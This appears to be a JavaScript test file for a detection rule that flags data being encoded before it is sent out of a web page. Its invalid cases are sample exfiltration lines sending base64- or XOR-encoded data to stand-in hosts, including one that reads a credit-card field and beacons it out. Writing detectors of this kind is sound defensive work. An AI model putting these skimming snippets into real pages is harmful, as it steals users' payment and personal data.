import rule from './encoding-before-send.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    "fetch('/api', {method:'POST', body: btoa(data)});",
    "var s = btoa(str); console.log(s);",
    "var r = [1,2,3].reverse(); fetch('https://x.example/', {method:'POST', body: r});",
  ],
  invalid: [
    { code: "new Image().src = 'https://s.example/p?d=' + btoa(JSON.stringify(info));", messageIds: ['encoded'], severity: 'medium' },
    { code: "var v = document.getElementById('cc-number').value; navigator.sendBeacon('https://s.example/b', btoa(v));", messageIds: ['payment'], severity: 'high' },
    { code: "function enc(s){ var o=''; for (var i=0;i<s.length;i++) o += String.fromCharCode(s.charCodeAt(i) ^ 7); return o; } fetch('https://s.example/', {method:'POST', body: enc(data)});", messageIds: ['encoded'] },
  ],
});
